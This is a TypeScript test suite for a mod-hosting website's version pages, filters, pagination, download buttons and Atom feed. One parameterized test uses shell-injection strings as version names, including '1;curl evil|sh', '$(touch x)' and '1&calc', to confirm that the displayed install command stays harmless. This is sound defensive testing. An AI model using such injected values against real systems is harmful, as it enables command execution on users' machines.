import { beforeAll, describe, expect, it } from 'vitest';
import type { Creator } from '../../actors.js';
import { useWorld } from '../../harness.js';
import { draftMod, newGame, publishedVersion } from '../../publishing.js';
import { longTest } from '../../rounds.js';
import { countStatements } from '../../statement-count.js';
import { storedMod, storedVersion } from '../../stored-versions.js';
import { newVisitor } from '../visitor.js';
import { structuredIn, VERSION } from './mod-world.js';

const world = useWorld();
let ann: Creator;
let modId: string;

beforeAll(async () => {
  ann = await world.creator('ann');
  await newGame(world, 'brackenvale');
  modId = (await draftMod(ann, 'brackenvale')).id;
  for (const [version, more] of [
    ['1.0.0', {}],
    ['1.1.0', { game_versions: ['1.21'], loader_platforms: ['forge'] }],
    ['2.0.0-beta', { release_channel: 'beta', changelog: { en: '' } }],
  ] as const) {
    await publishedVersion(world, ann, modId, { ...VERSION, version, ...more });
  }
});

const open = (path: string) => newVisitor(world).get(path);
const namesIn = (html: string) =>
  [...html.matchAll(/<div class="release-name"><a [^>]*>([^<]*)</g)].map(([, name]) => name);

describe('the versions of a mod', () => {
  it('the list shows the newest version first, each with its own download', async () => {
    const { status, html } = await open(`/mods/${modId}/versions`);
    expect(status).toBe(200);
    expect(namesIn(html)).toEqual(['2.0.0-beta', '1.1.0', '1.0.0']);
    expect([...html.matchAll(/name="file" value="/g)]).toHaveLength(3);
    expect(html).not.toContain('name="robots"');
  });

  it.each([
    ['game_version=1.20', ['2.0.0-beta', '1.0.0']],
    ['loader=forge', ['1.1.0']],
    ['channel=beta', ['2.0.0-beta']],
    ['game_version=&loader=&channel=release', ['1.1.0', '1.0.0']],
  ])('the filter %s leaves %s and stays chosen', async (query, names) => {
    const { html } = await open(`/mods/${modId}/versions?${query}`);
    expect(namesIn(html)).toEqual(names);
    const [, value] = query.split('&').at(-1)?.split('=') ?? [];
    expect(html).toContain(`<option value="${value}" selected>`);
    expect(html).toContain('<meta name="robots" content="noindex">');
  });

  it('filters without a version offer the whole list', async () => {
    const { status, html } = await open(`/mods/${modId}/versions?loader=quilt`);
    expect(status).toBe(200);
    expect(html).toContain('No version fits these filters.');
    expect(html).toContain('<option value="quilt" selected>');
    expect(html).toContain(`<a href="/mods/${modId}/versions">Show all versions</a>`);
  });

  it.each(['channel=nightly', 'cursor=nonsense'])(
    'an address with %s is a page that leads back',
    async (query) => {
      const { status, html } = await open(`/mods/${modId}/versions?${query}`);
      expect(status).toBe(400);
      expect(html).toContain(`/mods/${modId}/versions">Go to all versions`);
    },
  );

  longTest('a long list goes on page by page without a gap, and keeps its filters', async () => {
    const id = await storedMod(world, ann, 'brackenvale');
    for (let at = 0; at < 30; at += 1) {
      await storedVersion(
        world,
        ann,
        id,
        { version: `1.${at}.0`, loaders: ['fabric'] },
        Buffer.from(`a ${at}`),
      );
    }
    const first = await open(`/mods/${id}/versions?loader=fabric`);
    const [, next = ''] = /rel="next" href="([^"]+)"/.exec(first.html) ?? [];
    expect(next).toContain('loader=fabric');
    const second = await open(next.replaceAll('&amp;', '&'));
    const all = [...namesIn(first.html), ...namesIn(second.html)];
    expect(all).toHaveLength(30);
    expect(new Set(all).size).toBe(30);
    expect(second.html).not.toContain('rel="next"');
    expect(second.html).toContain('Newest versions');
  });
});

describe('the latest release on the page of a mod', () => {
  it('the page offers the latest release after ten newer backports of an older one', async () => {
    const id = await storedMod(world, ann, 'brackenvale');
    const add = (version: string) => {
      world.clock.advance(1);
      return storedVersion(world, ann, id, { version }, Buffer.from(version));
    };
    const latest = await add('2.0.0');
    const pageAndStatements = async () => {
      const { html } = await open(`/mods/${id}`);
      return { html, statements: await countStatements(world, () => open(`/mods/${id}`)) };
    };
    const alone = await pageAndStatements();
    for (let at = 0; at < 10; at += 1) await add(`1.0.${at}`);
    const { html, statements } = await pageAndStatements();
    expect(html).toContain(
      `<p class="release"><a href="/mods/${id}/versions/${latest.versionId}"><strong>2.0.0<`,
    );
    expect(html).toContain(`name="file" value="${latest.artifactId}"`);
    expect(structuredIn(html)).toContainEqual(
      expect.objectContaining({ softwareVersion: '2.0.0' }),
    );
    expect(statements).toBeLessThanOrEqual(alone.statements);
  });
});

describe('the page of a version', () => {
  it('a version shows its changes, its files and what it needs', async () => {
    const { body } = await ann.get(`/mods/${modId}/versions`);
    const [beta, , first] = body.data;
    const { html } = await open(`/mods/${modId}/versions/${first.id}`);
    expect(html).toContain('First <strong>light</strong>.');
    expect(html).toContain('This version needs no other mod.');
    expect(html).toContain('<p class="file-name">mod.zip</p>');
    expect(html).toMatch(/<code class="digest"[^>]*>[0-9a-f]{64}</);
    const other = await open(`/mods/${modId}/versions/${beta.id}`);
    expect(other.html).toContain('The author has not described the changes.');
    expect(other.html).toContain('>Beta<');
  });

  it('a version that names no game versions and no loaders fits any of them', async () => {
    const id = await storedMod(world, ann, 'brackenvale');
    const named = { version: '1.0.0', gameVersions: [], loaders: [] };
    const { versionId } = await storedVersion(world, ann, id, named, Buffer.from('anywhere'));
    for (const [locale, gameVersions, loaders, any] of [
      ['en', 'Game versions', 'Loaders', 'Any'],
      ['ru', 'Версии игры', 'Загрузчики', 'Любые'],
      ['de', 'Spielversionen', 'Loader', 'Alle'],
    ]) {
      const { html } = await open(`/mods/${id}/versions/${versionId}?lang=${locale}`);
      expect(html).toContain(`<dt>${gameVersions}</dt><dd>${any}</dd>`);
      expect(html).toContain(`<dt>${loaders}</dt><dd>${any}</dd>`);
    }
  });

  it('the buttons of several files of a version have the names of their files', async () => {
    const id = await storedMod(world, ann, 'brackenvale');
    const add = (version: string) =>
      storedVersion(world, ann, id, { version }, Buffer.from(`file of ${version}`));
    const [{ versionId, artifactId }, extra] = [await add('3.0.0'), await add('2.0.0')];
    const { artifact, modVersion } = world.platform.db;
    await artifact.update({ where: { id: artifactId }, data: { originalFilename: 'mod.zip' } });
    const namesOn = async () => {
      const { html } = await open(`/mods/${id}/versions/${versionId}`);
      const [, files = ''] = /<div class="file">(.*?)<details/s.exec(html) ?? [];
      const shown = [...files.matchAll(/<(button|a) [^>]*>(.*?)<\/\1>/gs)];
      return shown.map(([, , text = '']) => text.replaceAll(/<[^>]*>/g, ''));
    };
    expect(await namesOn()).toEqual(['Download 3.0.0', 'Install with a mod manager', 'Copy']);
    await modVersion.update({ where: { id: extra.versionId }, data: { state: 'archived' } });
    const data = { versionId, fileKind: 'optional', originalFilename: 'extra.zip' } as const;
    await artifact.update({ where: { id: extra.artifactId }, data });
    expect(await namesOn()).toEqual([
      'Download 3.0.0 (mod.zip)',
      'Install with a mod manager (mod.zip)',
      'Copy (mod.zip)',
      'Download 3.0.0 (extra.zip)',
      'Install with a mod manager (extra.zip)',
      'Copy (extra.zip)',
    ]);
  });

  it.each([
    ['1.0.0+mc.1-x_y', '1.0.0+mc.1-x_y'],
    ['1.0 (бета), [forge]', '1.0 (бета), [forge]'],
    ['1;curl evil|sh', null],
    ['$(touch x)', null],
    ['`touch x`', null],
    ['1&calc', null],
    ['%PATH%', null],
    ['!!', null],
    ['1" & calc "', null],
    ["1' && touch x '", null],
    ['1” ; calc “', null],
    ['1\\', null],
    ['1\ntouch x', null],
  ])('the install command of the version %j is harmless in every shell', async (version, named) => {
    const id = await storedMod(world, ann, 'brackenvale');
    const bytes = Buffer.from('installable');
    const { versionId } = await storedVersion(world, ann, id, { version }, bytes);
    const { html } = await open(`/mods/${id}/versions/${versionId}`);
    const { slug } = await world.platform.db.mod.findUniqueOrThrow({ where: { id } });
    const word = `brackenvale/${slug}@${named ?? versionId}`;
    const shown = /[ ,]/.test(word) ? `&quot;${word}&quot;` : word;
    const command = `modport install ${shown} --server ${world.platform.publicUrl}`;
    expect(html).toContain(`<code class="secret">${command}</code>`);
  });

  it('the pages of a version with corrupt bytes say that no file can be downloaded', async () => {
    const id = await storedMod(world, ann, 'brackenvale');
    const stored = await storedVersion(world, ann, id, { version: '1.0.0' }, Buffer.from('rotten'));
    await world.platform.db.blob.updateMany({
      where: { artifacts: { some: { id: stored.artifactId } } },
      data: { state: 'corrupt' },
    });
    for (const page of [`/mods/${id}/versions/${stored.versionId}`, `/mods/${id}`]) {
      const { html } = await open(page);
      expect(html).toContain('You cannot download any file of this version.');
      expect(html).not.toContain('Another service hosts this file.');
    }
  });

  it('the page of an archived version offers its own file', async () => {
    const id = await storedMod(world, ann, 'brackenvale');
    const bytes = Buffer.from('archived');
    const stored = await storedVersion(world, ann, id, { version: '1.0.0' }, bytes);
    await ann.graphql('mutation ($id: ID!) { archiveModVersion(id: $id) { status } }', {
      id: stored.versionId,
    });
    const { html } = await open(`/mods/${id}/versions/${stored.versionId}`);
    expect(html).toContain('Archived');
    expect(html).toContain(`name="file" value="${stored.artifactId}"`);
    expect(html).not.toContain('Another service hosts this file.');
  });

  it('a version of another mod is not found', async () => {
    const other = await storedMod(world, ann, 'brackenvale');
    const { body } = await ann.get(`/mods/${modId}/versions`);
    expect((await open(`/mods/${other}/versions/${body.data[0].id}`)).status).toBe(404);
  });
});

describe('the feed of a mod', () => {
  it('a feed has the newest versions with their changes as entries', async () => {
    const { status, headers, html } = await open(`/mods/${modId}/feed.atom`);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('application/atom+xml; charset=utf-8');
    const titles = [...html.matchAll(/<entry>\n<id>[^<]*<\/id>\n<title>([^<]*)</g)];
    expect(titles.map(([, title]) => title)).toEqual([
      'A mod 2.0.0-beta',
      'A mod 1.1.0',
      'A mod 1.0.0',
    ]);
    expect(html).toContain('<content type="html">&lt;p&gt;First &lt;strong&gt;light');
    expect(html).toContain(
      `<link rel="self" href="${world.platform.publicUrl}/mods/${modId}/feed.atom?lang=en"/>`,
    );
  });

  it('a reader with an unchanged feed gets no body', async () => {
    const { headers } = await open(`/mods/${modId}/feed.atom`);
    const etag = headers.get('etag') ?? '';
    const again = await newVisitor(world).get(`/mods/${modId}/feed.atom`, {
      'If-None-Match': etag,
    });
    expect([again.status, again.html]).toEqual([304, '']);
  });

  it('the page of a mod names its feed', async () => {
    const { html } = await open(`/mods/${modId}`);
    expect(html).toContain(
      `type="application/atom+xml" title="New versions of A mod" href="/mods/${modId}/feed.atom?lang=en"`,
    );
  });
});
